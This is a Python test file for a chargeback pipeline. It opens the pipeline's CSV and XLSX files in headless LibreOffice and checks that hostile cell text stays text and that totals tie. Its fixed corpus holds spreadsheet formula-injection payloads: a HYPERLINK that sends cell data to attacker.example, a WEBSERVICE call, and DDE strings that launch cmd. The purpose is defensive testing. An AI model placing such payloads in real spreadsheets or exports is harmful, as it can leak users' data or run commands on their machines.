"""Names that try to be formulas, opened by a real spreadsheet program: text stays text, numbers stay numbers (12.3)."""

import csv
import io
import re
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest

from tests.conftest import need_program
from tests.month_files import OCTOBER, SHA, charge, chargeback_file, control, october
from tests.spreadsheet import Book
from tokengov_pipelines.pack.workbook import workbook_xlsx
from tokengov_pipelines.pack.writer import Column, Kind, csv_bytes

pytestmark = [
    pytest.mark.system("libreoffice-calc-nogui"),
    pytest.mark.timeout(240),
    pytest.mark.xdist_group("spreadsheet"),
]

FIRST_CHARACTERS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = (
    "1+1",
    "SUM(1;2)",
    'HYPERLINK("http://attacker.example/?x="&A1;"click")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://attacker.example/")',
    "2026-10-31",
)
BLANKS = ("", " ", "   ", "\u00a0", "\u200b", "\ufeff", "\u3000")
CORPUS = [
    *(f"{first}{payload}" for first in FIRST_CHARACTERS for payload in PAYLOADS),
    *(f"{blank}{first}1+1" for blank in BLANKS for first in ("=", "+", "-", "@")),
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    "x\n=1+1",
    "<r><t>=1+1</t></r>",
    "{=1+1}",
]
SHEETS = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,false,false,false,false,-1"
"""Comma, double quotes, UTF-8, all tabs; text cells are quoted and numbers are as stored: a quoted cell is text."""

FIELDS = ("external_id", "team_alias", "use_case", "tag", "memo", "amount")


def detail_file() -> bytes:
    """A file with the corpus in every free text: names, tags, use case, memo. Its amounts are 0.01, -1.02, 2.03, ..."""
    columns = [Column(name, Kind.DECIMAL if name == "amount" else Kind.TEXT) for name in FIELDS]
    rows = [[f"row-{n:03}", text, text, text, text, amount(n)] for n, text in enumerate(CORPUS)]
    return csv_bytes(columns, rows, ["external_id"])


def amount(number: int) -> Decimal:
    return (Decimal(number) + Decimal(number + 1) / 1000).quantize(Decimal("0.01")) * (-1 if number % 2 else 1)


@pytest.fixture(scope="module")
def convert(tmp_path_factory):
    """Open a file in LibreOffice, without a window, and save it in another form; the new files by name."""
    program = need_program("soffice", "libreoffice-calc-nogui")
    profile = tmp_path_factory.mktemp("profile")

    def run(source: Path, form: str) -> dict[str, bytes]:
        target = source.parent / "converted"
        command = [program, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"]
        command += ["--convert-to", form, "--outdir", str(target), str(source)]
        done = subprocess.run(command, capture_output=True, text=True, timeout=200, check=False)
        assert done.returncode == 0, done.stderr
        return {path.name: path.read_bytes() for path in target.iterdir()}

    return run


def without_results(workbook: bytes) -> bytes:
    """The workbook without the results that are stored with its formulas, so that whoever opens it has to calculate."""
    source, target = zipfile.ZipFile(io.BytesIO(workbook)), io.BytesIO()
    with zipfile.ZipFile(target, "w") as copy:
        for name in source.namelist():
            content = source.read(name)
            if name.startswith("xl/worksheets/sheet"):
                content, found = re.subn(rb"</f><v>[^<]*</v>", b"</f>", content)
                assert found or b"<f>" not in content
            copy.writestr(name, content)
    return target.getvalue()


def is_quoted(line: bytes, text: str) -> bool:
    return ('"' + text.replace('"', '""') + '"').encode() in line


def test_a_csv_file_of_the_pack_opens_without_a_formula(convert, tmp_path):
    source = tmp_path / "chargeback_detail.csv"
    source.write_bytes(detail_file())
    book = Book(convert(source, "xlsx")["chargeback_detail.xlsx"])
    cells = book.cells(book.names[0])
    assert [place for place, (_, formula, _) in cells.items() if formula] == []
    for number in range(len(CORPUS)):
        for column in "BCDE":
            assert cells[f"{column}{number + 2}"][0] == "s", CORPUS[number]
        kind, _, value = cells[f"F{number + 2}"]
        assert (kind, Decimal(value)) == ("n", amount(number))
    assert not [name for name in book.archive.namelist() if "externalLink" in name]


def test_the_workbook_opens_with_text_as_text_and_live_totals(convert, tmp_path):
    charges = [
        charge(f"CC-{n:03}", str(amount(n)), cost_center_name=text, team_alias=text, use_case=text)
        for n, text in enumerate(CORPUS)
    ]
    total = sum(amount(n) for n in range(len(CORPUS)))
    files = {"chargeback.csv": chargeback_file(charges), "journal.csv": detail_file()}
    made = workbook_xlsx(
        files,
        control(files, ties=[], files=[{"file": "chargeback.csv", "sums": {"USD": str(total)}}]),
        month=OCTOBER,
        version=1,
        status="closed",
        content_sha256=SHA,
    )
    source = tmp_path / "pack.xlsx"
    source.write_bytes(without_results(made))
    opened = convert(source, SHEETS)
    assert not [name for name, content in opened.items() if b"#NAME" in content or b"#VALUE" in content]
    shown = opened["pack-Chargeback.csv"]
    rows = list(csv.reader(io.StringIO(shown.decode("utf-8-sig"), newline="")))
    assert rows[3][:6] == ["amount", "USD", str(total), str(total), "0", "ties"]
    header = rows[6]
    first = 7
    names = {row[header.index("cost_center")]: row for row in rows[first:]}
    for n, text in enumerate(CORPUS):
        row = names[f"CC-{n:03}"]
        assert Decimal(row[header.index("amount")]) == amount(n)
        for column in ("cost_center_name", "team_alias", "use_case"):
            assert row[header.index(column)].strip("'")[:1] not in {"2", "3"}, text  # nothing was calculated
            assert is_quoted(shown, row[header.index(column)]), text
    summary = list(csv.reader(io.StringIO(opened["pack-Summary.csv"].decode("utf-8-sig"), newline="")))
    assert ["Every total of this workbook against its control total", "", "ties"] in [row[:3] for row in summary]
    assert sum(row[3] == "ties" for row in summary if row[0] == "Sum") == 3


def test_a_whole_months_workbook_ties_when_another_program_calculates_it(convert, tmp_path):
    files = october()
    made = workbook_xlsx(files, control(files), month=OCTOBER, version=1, status="closed", content_sha256=SHA)
    source = tmp_path / "pack.xlsx"
    source.write_bytes(without_results(made))
    opened = {name: content.decode("utf-8-sig") for name, content in convert(source, SHEETS).items()}
    assert not [name for name, text in opened.items() if "does not tie" in text or "#" in text or "Err:" in text]
    totals = list(csv.reader(io.StringIO(opened["pack-Control totals.csv"], newline="")))
    assert sum(row[-1] == "ties" for row in totals) == 2
    chargeback = list(csv.reader(io.StringIO(opened["pack-Chargeback.csv"], newline="")))
    assert chargeback[3][2:6] == ["1428.09", "1428.09", "0", "ties"]
    items = list(csv.reader(io.StringIO(opened["pack-Recon items.csv"], newline="")))
    assert items[3][2:6] == ["58.25", "58.25", "0", "ties"]
